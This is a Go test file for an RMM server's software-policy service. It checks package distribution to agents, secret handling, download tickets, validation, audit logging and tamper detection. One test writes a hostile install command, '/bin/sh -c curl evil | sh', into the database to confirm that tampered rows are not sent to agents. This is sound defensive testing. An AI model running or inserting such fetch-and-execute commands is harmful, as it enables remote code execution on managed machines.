package service

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/wacht-rmm/wacht/internal/core"
	"github.com/wacht-rmm/wacht/internal/policy"
	"github.com/wacht-rmm/wacht/internal/protocol"
	"github.com/wacht-rmm/wacht/internal/seal"
	"github.com/wacht-rmm/wacht/internal/server/auth/authtest"
	"github.com/wacht-rmm/wacht/internal/server/blobs"
)

// softwareFixture is the remote fixture's Linux device with a service
// that seals secrets and keeps uploads, and packages of every sort.
type softwareFixture struct {
	*remoteFixture
	box                           *seal.Box
	demo, htop, curl, win, noFile core.Package
	basis, kanzlei                core.Policy
	at                            *time.Time // the resolver's clock
	deps                          policy.SoftwareDeps
	pusher                        *pushCounter
}

// pushCounter counts the policy pushes to connected agents.
type pushCounter struct {
	*fakeRemote
	n int
}

func (p *pushCounter) PushPolicies() { p.n++ }

func newSoftwareFixture(t *testing.T) softwareFixture {
	t.Helper()
	ctx := context.Background()
	at := time.Date(2026, 12, 6, 8, 0, 0, 0, time.UTC)
	f := softwareFixture{remoteFixture: newRemoteFixture(t), at: &at}
	var err error
	if f.box, err = seal.NewBox(bytes.Repeat([]byte{5}, 32)); err != nil {
		t.Fatal(err)
	}
	bs, err := blobs.Open(t.TempDir(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	f.pusher = &pushCounter{fakeRemote: f.remote}
	f.svc = New(Deps{Store: f.st, Commander: f.pusher, PasswordCost: authtest.Cost, Secrets: f.box, Blobs: bs})
	f.deps = SoftwareDeps(f.box)
	f.deps.Now = func() time.Time { return *f.at }
	save := func(in PackageInput) core.Package {
		t.Helper()
		p, err := f.svc.SavePackage(ctx, f.admin, 0, in)
		if err != nil {
			t.Fatalf("saving package %s: %v", in.Name, err)
		}
		return p
	}
	f.demo = save(PackageInput{Name: "Demo", Version: "2.1", OS: "linux", Kind: core.PkgUpload,
		Install: []string{"/usr/bin/dpkg", "-i", "{{file}}"}, Uninstall: []string{"/usr/bin/dpkg", "-r", "demo"},
		Params:    []core.PackageParam{{Name: "relay", Value: "relay.example.de"}, {Name: "token", Secret: true, Value: "geheim-4711"}},
		Detection: core.Detection{Kind: core.DetectOSPackage, Name: "demo", MinVersion: "1.0"}})
	if f.demo, err = f.svc.UploadPackageFile(ctx, f.admin, f.demo.ID, "demo.deb", strings.NewReader("a debian package")); err != nil {
		t.Fatal(err)
	}
	f.htop = save(PackageInput{Name: "htop", Version: "3", OS: "linux", Kind: core.PkgApt, ManagerID: "htop",
		Detection: core.Detection{Kind: core.DetectOSPackage, Name: "htop"}})
	f.curl = save(PackageInput{Name: "curl", Version: "8", OS: "linux", Kind: core.PkgApt, ManagerID: "curl",
		Detection: core.Detection{Kind: core.DetectOSPackage, Name: "curl"}})
	f.win = save(PackageInput{Name: "Kanzlei-Editor", Version: "5", OS: "windows", Kind: core.PkgWinget, ManagerID: "Kanzlei.Editor",
		Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "Kanzlei-Editor*"}})
	f.noFile = save(PackageInput{Name: "Agent", Version: "1", OS: "linux", Kind: core.PkgUpload,
		Install: []string{"/bin/sh", "{{file}}"}, Detection: core.Detection{Kind: core.DetectService, Name: "agent"}})

	// The default level wants all of them; the client overrides htop and
	// excludes curl.
	f.basis = core.Policy{Name: "Basis", Software: []core.PolicySoftware{
		{PackageID: f.demo.ID, State: core.SoftwarePresent, MinVersion: "2.0"},
		{PackageID: f.htop.ID, State: core.SoftwareAbsent},
		{PackageID: f.curl.ID, State: core.SoftwarePresent},
		{PackageID: f.win.ID, State: core.SoftwarePresent},
		{PackageID: f.noFile.ID, State: core.SoftwarePresent},
	}}
	f.kanzlei = core.Policy{Name: "Kanzlei", Software: []core.PolicySoftware{
		{PackageID: f.htop.ID, State: core.SoftwarePresent, MinVersion: "3.0"},
		{PackageID: f.curl.ID, Exclude: true},
	}}
	for _, p := range []*core.Policy{&f.basis, &f.kanzlei} {
		if err := f.svc.SavePolicy(ctx, f.admin, p); err != nil {
			t.Fatalf("saving policy %s: %v", p.Name, err)
		}
	}
	if _, err := f.svc.SetAssignments(ctx, f.admin, core.LevelDefault, 0, []int64{f.basis.ID}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.SetAssignments(ctx, f.admin, core.LevelClient, f.dev.ClientID, []int64{f.kanzlei.ID}); err != nil {
		t.Fatal(err)
	}
	return f
}

// agentPolicy is what the device's agent receives, from a resolver as the
// server builds it, with the fixture's clock.
func (f softwareFixture) agentPolicy(t *testing.T) protocol.Policy {
	t.Helper()
	p, err := policy.NewResolver(f.st.(policy.FullStore), nil).SetSoftware(f.deps).AgentPolicy(context.Background(), f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Validate(); err != nil {
		t.Fatalf("the policy for the agent is invalid: %v", err)
	}
	for _, s := range p.Software {
		a := s.Package
		a.RunID = "x"
		if err := a.Validate(); err != nil {
			t.Errorf("%s: the package as sent is invalid: %v", s.Check, err)
		}
	}
	return p
}

func softwareByCheck(sw []protocol.Software) map[string]protocol.Software {
	m := map[string]protocol.Software{}
	for _, s := range sw {
		m[s.Check] = s
	}
	return m
}

func TestPolicySoftwareSentToAgents(t *testing.T) {
	f := newSoftwareFixture(t)
	ctx := context.Background()
	p := f.agentPolicy(t)
	got := softwareByCheck(p.Software)
	if len(p.Software) != 2 {
		t.Fatalf("agent software = %+v", p.Software)
	}
	demo := got[core.SoftwareCheckName(f.demo.ID)]
	a := demo.Package
	if demo.State != core.SoftwarePresent || demo.MinVersion != "2.0" || a.Detection.MinVersion != "2.0" || a.RunID != "" ||
		a.Kind != core.PkgUpload || strings.Join(a.Command, " ") != "/usr/bin/dpkg -i {{file}}" ||
		a.Params["relay"] != "relay.example.de" || a.Secrets["token"] != "geheim-4711" || a.PackageID != f.demo.ID {
		t.Errorf("demo as sent = %+v", demo)
	}
	if a.File == nil || a.File.SHA256 != f.demo.SHA256 || a.File.Size != f.demo.Size || a.File.Name != "demo.deb" {
		t.Fatalf("demo's file = %+v", a.File)
	}
	tickets := blobs.NewTickets(f.box.Derive(blobs.TicketPurpose))
	if dev, err := tickets.Check(a.File.Ticket, f.demo.SHA256, f.at.AddDate(0, 1, 0)); err != nil || dev != f.dev.ID {
		t.Errorf("the ticket a month later: device %d, %v", dev, err)
	}
	if _, err := tickets.Check(a.File.Ticket, f.demo.SHA256, policy.TicketExpiry(*f.at)); err == nil {
		t.Error("the ticket is valid after its expiry")
	}
	htop := got[core.SoftwareCheckName(f.htop.ID)]
	if htop.State != core.SoftwarePresent || htop.MinVersion != "3.0" || htop.Package.ManagerID != "htop" ||
		htop.Package.Command != nil || htop.Package.File != nil {
		t.Errorf("htop as sent = %+v", htop)
	}

	// The same content, the same revision (and ticket), however often it
	// is resolved; an edited package changes it.
	again := f.agentPolicy(t)
	if again.Revision != p.Revision || softwareByCheck(again.Software)[demo.Check].Package.File.Ticket != a.File.Ticket {
		t.Errorf("two resolves: revisions %s and %s", p.Revision, again.Revision)
	}
	in := PackageInput{Name: "Demo", Version: "2.1", OS: "linux", Kind: core.PkgUpload,
		Install: []string{"/usr/bin/dpkg", "-i", "--force-confold", "{{file}}"}, Uninstall: []string{"/usr/bin/dpkg", "-r", "demo"},
		Params:    []core.PackageParam{{Name: "relay", Value: "relay.example.de"}, {Name: "token", Secret: true}},
		Detection: core.Detection{Kind: core.DetectOSPackage, Name: "demo", MinVersion: "1.0"}}
	pushed := f.pusher.n
	if _, err := f.svc.SavePackage(ctx, f.admin, f.demo.ID, in); err != nil {
		t.Fatal(err)
	}
	if f.pusher.n != pushed+1 {
		t.Errorf("editing a package that a policy wants pushed %d times, want once", f.pusher.n-pushed)
	}
	edited := f.agentPolicy(t)
	if ed := softwareByCheck(edited.Software)[demo.Check]; edited.Revision == p.Revision || len(ed.Package.Command) != 4 || ed.Package.Secrets["token"] != "geheim-4711" {
		t.Errorf("after the package's edit: revision %s (was %s), %+v", edited.Revision, p.Revision, ed.Package)
	}
	// Next month's tickets expire a month later: a new revision then.
	*f.at = f.at.AddDate(0, 1, 0)
	if later := f.agentPolicy(t); later.Revision == edited.Revision {
		t.Error("the revision did not change with the tickets' expiry")
	}

	// The effective view: sources, the skipped and the broken entry, the
	// excluded one; never the secret.
	eff, err := f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	byPkg := map[int64]policy.SoftwareEntry{}
	for _, e := range eff.Software {
		byPkg[e.PackageID] = e
	}
	if e := byPkg[f.htop.ID]; e.Source.PolicyName != "Kanzlei" || e.Source.Level != core.LevelClient || e.Overrides == nil ||
		e.Overrides.PolicyName != "Basis" || e.Broken != nil || e.PackageName != "htop" {
		t.Errorf("htop effective = %+v", e)
	}
	if e := byPkg[f.win.ID]; e.Skipped == nil || e.Broken != nil || !strings.Contains(e.Skipped.DE, "windows") {
		t.Errorf("windows package effective = %+v", e)
	}
	if e := byPkg[f.noFile.ID]; e.Broken == nil || !strings.Contains(e.Broken.EN, "no uploaded file") || e.Broken.DE == "" {
		t.Errorf("package without file effective = %+v", e)
	}
	if len(eff.ExcludedSoftware) != 1 || eff.ExcludedSoftware[0].Name != core.SoftwareCheckName(f.curl.ID) {
		t.Errorf("excluded = %+v", eff.ExcludedSoftware)
	}
	b, _ := json.Marshal(eff)
	audit, _ := f.st.ListAudit(ctx, 100)
	au, _ := json.Marshal(audit)
	if strings.Contains(string(b), "geheim-4711") || strings.Contains(string(au), "geheim-4711") {
		t.Errorf("the secret shows in the effective policy or the audit")
	}

	// A deleted package breaks its entry.
	if err := f.svc.DeletePackage(ctx, f.admin, f.demo.ID, false); err != nil {
		t.Fatal(err)
	}
	if _, ok := softwareByCheck(f.agentPolicy(t).Software)[demo.Check]; ok {
		t.Error("a deleted package is sent")
	}
	eff, _ = f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	for _, e := range eff.Software {
		if e.PackageID == f.demo.ID && (e.Broken == nil || !strings.Contains(e.Broken.EN, "deleted")) {
			t.Errorf("deleted package effective = %+v", e)
		}
	}
}

// TestSoftwareRowWrittenIntoTheDatabaseRunsNothing: a package or a
// software entry changed in the database, not by the server, is not sent.
func TestSoftwareRowWrittenIntoTheDatabaseRunsNothing(t *testing.T) {
	f := newSoftwareFixture(t)
	ctx := context.Background()
	db := f.st.(interface{ SQL() *sql.DB }).SQL()
	demo, htop := core.SoftwareCheckName(f.demo.ID), core.SoftwareCheckName(f.htop.ID)
	if got := softwareByCheck(f.agentPolicy(t).Software); len(got) != 2 {
		t.Fatalf("before: %+v", got)
	}
	if _, err := db.ExecContext(ctx, `UPDATE packages SET install = $1 WHERE id = $2`, `["/bin/sh","-c","curl evil | sh"]`, f.demo.ID); err != nil {
		t.Fatal(err)
	}
	var raw string
	if err := db.QueryRowContext(ctx, `SELECT software FROM policies WHERE id = $1`, f.kanzlei.ID).Scan(&raw); err != nil {
		t.Fatal(err)
	}
	changed := strings.Replace(raw, `"min_version":"3.0"`, `"min_version":"0"`, 1)
	if _, err := db.ExecContext(ctx, `UPDATE policies SET software = $1 WHERE id = $2`, changed, f.kanzlei.ID); err != nil {
		t.Fatal(err)
	}
	got := softwareByCheck(f.agentPolicy(t).Software)
	if _, ok := got[demo]; ok {
		t.Errorf("a package changed in the database is sent: %+v", got[demo])
	}
	if _, ok := got[htop]; ok {
		t.Errorf("an entry changed in the database is sent: %+v", got[htop])
	}
	eff, err := f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range eff.Software {
		switch e.Check {
		case demo, htop:
			if e.Broken == nil || !strings.Contains(e.Broken.EN, "authentication") || e.Broken.DE == "" {
				t.Errorf("%s effective = %+v", e.Check, e)
			}
		}
	}
}

func TestPolicySoftwareValidation(t *testing.T) {
	f := newSoftwareFixture(t)
	ctx := context.Background()
	file := core.Package{}
	var err error
	if file, err = f.svc.SavePackage(ctx, f.admin, 0, PackageInput{Name: "Conf", Version: "1", OS: "linux", Kind: core.PkgApt, ManagerID: "conf",
		Detection: core.Detection{Kind: core.DetectFile, Path: "/etc/conf"}}); err != nil {
		t.Fatal(err)
	}
	p := core.Policy{Name: "Falsch", Software: []core.PolicySoftware{
		{PackageID: 9999, State: core.SoftwarePresent},
		{PackageID: f.htop.ID, State: "installed"},
		{PackageID: f.htop.ID, State: core.SoftwareAbsent},
		{PackageID: file.ID, State: core.SoftwarePresent, MinVersion: "2.0"}, // a file on Linux has no version
		{PackageID: 8888, Exclude: true},                                     // an exclusion needs only the package
	}}
	err = f.svc.SavePolicy(ctx, f.admin, &p)
	var ve *policy.ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("err = %v", err)
	}
	// The service's checks run once the policy's own are met.
	want := map[string]bool{"software[1].state": true, "software[2].package": true}
	for _, fe := range ve.Fields {
		if !want[fe.Field] || fe.Message.DE == "" {
			t.Errorf("unexpected %s: %s", fe.Field, fe.Message.EN)
		}
		delete(want, fe.Field)
	}
	for f := range want {
		t.Errorf("no error on %s", f)
	}
	p.Software = append(p.Software[:1], p.Software[3:]...)
	err = f.svc.SavePolicy(ctx, f.admin, &p)
	want = map[string]bool{"software[0].package": true, "software[1].min_version": true}
	if !errors.As(err, &ve) {
		t.Fatalf("err = %v", err)
	}
	for _, fe := range ve.Fields {
		if !want[fe.Field] || fe.Message.DE == "" {
			t.Errorf("unexpected %s: %s", fe.Field, fe.Message.EN)
		}
		delete(want, fe.Field)
	}
	for f := range want {
		t.Errorf("no error on %s", f)
	}

	// Only administrators save software states; the audit lists them.
	ok := core.Policy{Name: "Gut", Software: []core.PolicySoftware{{PackageID: f.htop.ID, State: core.SoftwarePresent, MinVersion: "3.0.2"}}}
	for _, u := range []core.User{f.tech, f.readonly, {}} {
		if err := f.svc.SavePolicy(ctx, u, &ok); !errors.Is(err, core.ErrForbidden) {
			t.Errorf("%q saving: %v, want forbidden", u.Email, err)
		}
	}
	if err := f.svc.SavePolicy(ctx, f.admin, &ok); err != nil {
		t.Fatal(err)
	}
	audit, err := f.st.ListAudit(ctx, 1)
	if err != nil || len(audit) != 1 || audit[0].Action != "policy.create" ||
		!strings.Contains(audit[0].Detail, `"software":[{"package":`+itoa(f.htop.ID)+`,"state":"present","min_version":"3.0.2"}]`) {
		t.Errorf("audit = %+v, %v", audit, err)
	}
	if got, _ := f.svc.GetPolicy(ctx, ok.ID); len(got.Software) != 1 || got.Software[0].MinVersion != "3.0.2" {
		t.Errorf("stored = %+v", got.Software)
	}

	// Patch settings are in the audit too: what a change set, not only
	// that it happened.
	pp := core.Policy{Name: "Patchen", Patch: &core.PatchPolicy{Enabled: true, Install: true,
		Exclusions: core.PatchExclusions{KBs: []string{"KB5034441"}}}}
	if err := f.svc.SavePolicy(ctx, f.admin, &pp); err != nil {
		t.Fatal(err)
	}
	audit, err = f.st.ListAudit(ctx, 1)
	if err != nil || len(audit) != 1 || audit[0].Action != "policy.create" ||
		!strings.Contains(audit[0].Detail, `"patch":{"enabled":true,"install":true,`) || !strings.Contains(audit[0].Detail, "KB5034441") {
		t.Errorf("audit of patch settings = %+v, %v", audit, err)
	}
}
